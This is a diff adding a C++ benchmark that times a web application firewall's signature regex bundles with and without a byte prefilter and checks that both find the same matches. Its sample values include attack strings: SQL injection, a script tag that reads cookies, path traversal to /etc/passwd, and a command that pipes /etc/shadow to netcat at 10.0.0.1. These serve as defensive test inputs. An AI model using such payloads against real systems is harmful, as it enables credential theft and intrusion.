@@ -0,0 +1,164 @@
+// Copyright (C) 2022 Check Point Software Technologies Ltd. All rights reserved.
+
+// Licensed under the Apache License, Version 2.0 (the "License");
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+// Measures the signature regex bundles of a waap.data file over a set of sample values, once with the byte
+// prefilter and once with every pattern going through pcre2, and checks that both report the same matches.
+//
+// Usage: waap_regex_bench <waap.data> [values file, one value per line] [iterations]
+
+#include <chrono>
+#include <fstream>
+#include <iomanip>
+#include <iostream>
+#include <memory>
+#include <sstream>
+
+#include "picojson.h"
+#include "Waf2Regex.h"
+#include "WaapRegexPreconditions.h"
+#include "WaapSampleValue.h"
+
+using namespace std;
+
+static const vector<string> default_values = {
+    "hello world",
+    "12345",
+    "john.doe@example.com",
+    "/api/v1/orders?id=77&sort=desc",
+    "{\"user\":\"john\",\"items\":[1,2,3],\"note\":\"please deliver after 5pm\"}",
+    "<html><head><title>Shop</title></head><body><div class=\"p\">Product 42 costs $19.99</div></body></html>",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    "1' or '1'='1",
+    "<script>alert(document.cookie)</script>",
+    "../../../../etc/passwd",
+    "; cat /etc/shadow | nc 10.0.0.1 4444",
+    "union select username, password from users--"
+};
+
+struct Bundle
+{
+    string name;
+    bool use_preconditions;
+};
+
+static const vector<Bundle> bundles = {
+    { "words_regex_list", true },
+    { "specific_acuracy_keywords_regex_list", true },
+    { "pattern_regex_list", true },
+    { "resp_body_words_regex_list", false },
+    { "resp_body_pattern_regex_list", false }
+};
+
+static vector<string>
+toStrVec(const picojson::value &value)
+{
+    vector<string> res;
+    if (!value.is<picojson::value::array>()) return res;
+    for (const auto &item : value.get<picojson::value::array>()) {
+        res.push_back(item.get<string>());
+    }
+    return res;
+}
+
+static double
+measure(const Regex &regex, const vector<SampleValue> &samples, uint iterations, size_t &matches_count)
+{
+    vector<RegexMatch> matches;
+    matches_count = 0;
+    auto start = chrono::steady_clock::now();
+    for (uint i = 0; i < iterations; i++) {
+        for (const auto &sample : samples) {
+            sample.findMatches(regex, matches);
+            matches_count += matches.size();
+        }
+    }
+    chrono::duration<double, micro> elapsed = chrono::steady_clock::now() - start;
+    return elapsed.count() / (iterations * samples.size());
+}
+
+int
+main(int argc, char **argv)
+{
+    if (argc < 2) {
+        cerr << "Usage: " << argv[0] << " <waap.data> [values file] [iterations]" << endl;
+        return 1;
+    }
+
+    ifstream data_file(argv[1]);
+    picojson::value doc;
+    data_file >> doc;
+    if (!doc.is<picojson::value::object>() || !doc.contains("waap_signatures")) {
+        cerr << "Failed to parse signatures file " << argv[1] << ": " << picojson::get_last_error() << endl;
+        return 1;
+    }
+    const auto &sigs_source = doc.get("waap_signatures").get<picojson::value::object>();
+
+    vector<string> values = default_values;
+    if (argc > 2) {
+        values.clear();
+        ifstream values_file(argv[2]);
+        string line;
+        while (getline(values_file, line)) values.push_back(line);
+    }
+    uint iterations = argc > 3 ? stoul(argv[3]) : 1000;
+
+    bool error = false;
+    auto preconditions = make_shared<Waap::RegexPreconditions>(sigs_source, error);
+    if (error) {
+        cerr << "Failed to load regex preconditions" << endl;
+        return 1;
+    }
+
+    vector<SampleValue> plain_samples;
+    vector<SampleValue> gated_samples;
+    for (const auto &value : values) {
+        plain_samples.emplace_back(value, nullptr);
+        gated_samples.emplace_back(value, preconditions);
+    }
+
+    cout << left << setw(40) << "bundle" << right << setw(10) << "patterns" << setw(14) << "pcre2 us" <<
+        setw(14) << "filtered us" << setw(10) << "speedup" << endl;
+
+    int res = 0;
+    for (const auto &bundle : bundles) {
+        auto found = sigs_source.find(bundle.name);
+        if (found == sigs_source.end()) continue;
+
+        vector<string> patterns = toStrVec(found->second);
+        Regex regex(patterns, error, bundle.name, bundle.use_preconditions ? preconditions : nullptr);
+        if (error) {
+            cerr << "Failed to compile bundle " << bundle.name << endl;
+            return 1;
+        }
+        const vector<SampleValue> &samples = bundle.use_preconditions ? gated_samples : plain_samples;
+
+        size_t baseline_matches;
+        size_t filtered_matches;
+        regex.setBytePrefilter(false);
+        double baseline = measure(regex, samples, iterations, baseline_matches);
+        regex.setBytePrefilter(true);
+        double filtered = measure(regex, samples, iterations, filtered_matches);
+
+        cout << left << setw(40) << bundle.name << right << setw(10) << patterns.size() << fixed <<
+            setprecision(2) << setw(14) << baseline << setw(14) << filtered << setw(9) << baseline / filtered <<
+            "x" << endl;
+
+        if (baseline_matches != filtered_matches) {
+            cerr << "Match count differs for " << bundle.name << ": " << baseline_matches << " != " <<
+                filtered_matches << endl;
+            res = 1;
+        }
+    }
+
+    return res;
+}